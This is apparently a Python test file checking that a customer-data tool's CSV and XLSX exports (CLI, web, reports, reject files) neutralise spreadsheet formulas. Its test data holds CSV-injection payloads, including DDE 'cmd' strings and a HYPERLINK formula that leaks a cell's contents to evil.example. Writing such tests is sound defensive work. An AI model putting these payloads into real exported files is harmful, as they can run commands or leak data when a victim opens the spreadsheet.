"""Issue 21.1: no formula reaches a spreadsheet — CLI export, web export, report, rejects — and
the importer reports formula-like text (loaded, not rejected)."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

import pyarrow as pa
import pytest
from openpyxl import load_workbook
from test_report import _rich_ws
from test_web_support import login, seeded_dir, seeded_ws  # noqa: F401

from kehu.ingest import export_table, import_file, import_records
from kehu.monitor.report.build import write_report
from kehu.quality import quality_report
from kehu.spreadsheet import csv_cell, csv_column, formula_mask, is_formula, unquote_column
from kehu.workspace import Workspace

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

# Every prefix of the OWASP rule, as attackers write them.
EVIL = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "\t=1+1",
    "\r=1+1",
]
STORED = [" ".join(v.split()) for v in EVIL]  # as the importer cleans them (trimmed)
HARMLESS = ["-5", "+8613812345678", "1.5e3", "北京甲有限公司", "a=b", "'quoted"]


def test_the_rule() -> None:
    assert all(is_formula(v) for v in EVIL)
    assert not any(is_formula(v) for v in HARMLESS)
    assert [csv_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert csv_cell(-5) == -5 and csv_cell("-5") == "-5" and csv_cell(None) is None
    arr = pa.array([*EVIL, *HARMLESS, None])
    assert formula_mask(arr).to_pylist() == [True] * len(EVIL) + [False] * (len(HARMLESS) + 1)
    assert unquote_column(csv_column(arr)).to_pylist() == arr.to_pylist()


def _no_formula_cells(data: bytes | Path) -> list[str]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _text(path: Path) -> str:
    with path.open(encoding="utf-8-sig", newline="") as fh:  # keep CRs inside cells
        return fh.read()


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(cells: list[str], expected: list[str]) -> None:
    for value in expected:
        assert "'" + value in cells, value
    for cell in cells:
        assert not is_formula(cell), cell


@pytest.fixture
def evil_ws(ws: Workspace) -> Workspace:
    records = [
        {
            "客户编号": f"C{i}",
            "客户名称": name,
            "地址": name,
            "年营收": "-5",
            "联系电话": "+86 138 1234 5678",
        }
        for i, name in enumerate(EVIL)
    ]
    result = import_records(ws, "customers", records, source="crm")
    assert result.loaded == len(EVIL) and result.rejected == 0
    finding = {f.code: f for f in result.findings}
    assert finding["formula_text"].count == len(EVIL)  # name and address flagged, kept
    return ws


def test_cli_exports_have_no_formula(evil_ws: Workspace, tmp_path: Path) -> None:
    export_table(evil_ws, "customers", tmp_path / "c.xlsx", headers="zh")
    texts = _no_formula_cells(tmp_path / "c.xlsx")
    assert set(STORED) <= set(texts)  # the exact text, as string cells
    export_table(evil_ws, "customers", tmp_path / "c.csv")
    raw = _text(tmp_path / "c.csv")
    cells = _csv_cells(raw)
    _assert_csv_safe(cells, STORED)
    assert "-5.00" in cells  # a negative number is a number, not text
    # Re-import of the export: the quote goes away again, the store is unchanged.
    again = import_file(evil_ws, tmp_path / "c.csv", "customers", source="crm")
    assert again.updated == 0 and again.unchanged == len(EVIL) and again.rejected == 0
    names = {r[0] for r in evil_ws.rows("SELECT name FROM customers")}
    assert names == set(STORED)


def test_quality_report_lists_formula_text(evil_ws: Workspace) -> None:
    found = {(f["code"], f["table"]): f["count"] for f in quality_report(evil_ws)["findings"]}
    assert found[("formula_name", "customers")] == len(EVIL)


def test_rejects_csv_quotes_formula_values(ws: Workspace) -> None:
    result = import_records(
        ws, "orders", [{"订单号": "O1", "客户编号": "=1+1", "下单日期": "=2024", "订单金额": "@1"}],
        source="crm",
    )  # fmt: skip
    assert result.rejected == 1
    path = ws.root / ws.settings.ingest.rejects_dir
    (file,) = path.glob("*.csv")
    cells = _csv_cells(_text(file))
    assert "'=1+1" in cells or "'=2024" in cells
    assert not any(is_formula(c) for c in cells)


def test_web_exports_have_no_formula(seeded_ws: Workspace) -> None:  # noqa: F811
    from kehu.web.app import create_app

    with seeded_ws.transaction() as cur:
        for i, value in enumerate(EVIL):
            cur.execute(
                "UPDATE customers SET name = ?, contact_name = ? WHERE customer_id = ?",
                [value, value, f"C{i + 1:04d}"],
            )
    app = create_app(seeded_ws, background=False)
    client = TestClient(app)
    login(client, "admin")
    for path in ("/api/v1/customers/export", "/customers/export"):
        r = client.get(path, params={"format": "xlsx"})
        assert r.status_code == 200
        # (openpyxl does not hand back a leading CR as written; data types are checked for all)
        texts = set(_no_formula_cells(r.content))
        assert {v for v in EVIL if not v.startswith("\r")} <= texts
        r = client.get(path, params={"format": "csv"})
        assert r.status_code == 200
        _assert_csv_safe(_csv_cells(r.content.decode("utf-8-sig")), EVIL)


def test_report_xlsx_has_no_formula(ws: Workspace, tmp_path: Path) -> None:
    _rich_ws(ws)
    ids = [r[0] for r in ws.rows("SELECT customer_id FROM customers ORDER BY 1")]
    with ws.transaction() as cur:
        for i, cid in enumerate(ids):
            for table in ("customers", "customer_snapshot"):
                cur.execute(
                    f"UPDATE {table} SET name = ? WHERE customer_id = ?",
                    [EVIL[i % len(EVIL)], cid],
                )
    out = write_report(ws, "2026-09", fmt="xlsx", out=tmp_path / "r.xlsx", lang="zh")
    texts = _no_formula_cells(Path(out["path"]))
    assert any(t in EVIL for t in texts)  # the names reached the report, as text


def test_pandas_writers_tasks_targets_dedupe_churn(tmp_path: Path) -> None:
    """The other areas' exports (tasks, targets, dedupe pairs, churn scores) use the same
    rule through `csv_frame` / `excel_writer`."""
    import pandas as pd

    from kehu.dedupe.run import write_pairs
    from kehu.spreadsheet import excel_writer, frame_to_csv

    frame = pd.DataFrame({"name": EVIL, "amount": [-5.5] * len(EVIL), "n": range(len(EVIL))})
    frame_to_csv(frame, tmp_path / "f.csv")
    cells = _csv_cells(_text(tmp_path / "f.csv"))
    _assert_csv_safe(cells, EVIL)
    assert "-5.5" in cells
    with excel_writer(tmp_path / "f.xlsx") as xw:
        frame.to_excel(xw, index=False)
    assert {v for v in EVIL if not v.startswith("\r")} <= set(
        _no_formula_cells(tmp_path / "f.xlsx")
    )
    customers = pa.table({"customer_id": ["A", "B"], "name": [EVIL[0], EVIL[3]]})
    pairs = pd.DataFrame(
        [{"id_l": "A", "id_r": "B", "probability": 0.9, "match_weight": 3.0,
          "status": "review", "agreed": "name", "blocked": "name"}]
    )  # fmt: skip
    for suffix in (".xlsx", ".csv"):
        path = write_pairs(customers, pairs, tmp_path / f"pairs{suffix}")
        if suffix == ".xlsx":
            assert EVIL[0] in _no_formula_cells(path)
        else:
            assert "'" + EVIL[0] in _csv_cells(_text(path))
